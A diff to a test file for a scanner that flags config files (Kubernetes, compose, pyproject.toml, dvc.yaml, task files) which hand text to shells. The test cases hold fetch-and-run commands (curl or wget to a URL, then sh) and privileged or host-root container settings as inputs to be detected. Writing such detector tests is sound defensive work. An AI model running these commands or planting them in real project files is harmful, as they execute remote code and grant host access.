@@ -37,7 +37,14 @@ describe('files that hand some of their text to shells', () => {
       `spec:\n  containers:\n  - command: [sh, -c]\n    args: ["curl -so a ${U} && sh a"]`,
       'fetched-code',
     ],
+    ['compose.yml', 'services:\n  a:\n    command: [x]\n    privileged: true', 'host-access'],
     ['compose.yml', 'services:\n  a:\n    command: [x]\n    volumes:\n    - /:/host', 'host-access'],
+    [
+      'pyproject.toml',
+      `[tool.hatch.envs.default]\npost-install-commands = ["curl -so x ${U}", "sh x"]`,
+      'fetched-code',
+    ],
+    ['pyproject.toml', `[tool.poe.tasks]\na = "sh -c 'curl -so x ${U}; sh x'"`, 'fetched-code'],
     ['dvc.yaml', `stages:\n  a:\n    cmd: [curl -so a ${U}, sh a]`, 'fetched-code'],
     ['task.yaml', `setup: |\n  wget -qO a ${U}\n  bash a\nrun: python x.py`, 'fetched-code'],
     [
@@ -57,6 +64,7 @@ describe('files that hand some of their text to shells', () => {
       'services:\n  a:\n    command: --model x --port 80\n    healthcheck: {test: [CMD, curl, -f, "http://localhost/"]}',
     ],
     ['Taskfile.yml', `tasks:\n  a:\n    cmds:\n    - echo "curl ${U} | sh"`],
+    ['pyproject.toml', '[project.scripts]\na = "b:c"\n[tool.poe.tasks]\ntest = "pytest && curl -f http://localhost"'],
     ['config.yaml', 'command: train\nrun: 3\nargs: [a, b]\nscript: x.py'],
   ])('%s is minded no more than it must: %j', (path, text) => {
     expect(judged(path, text)).toBeUndefined();
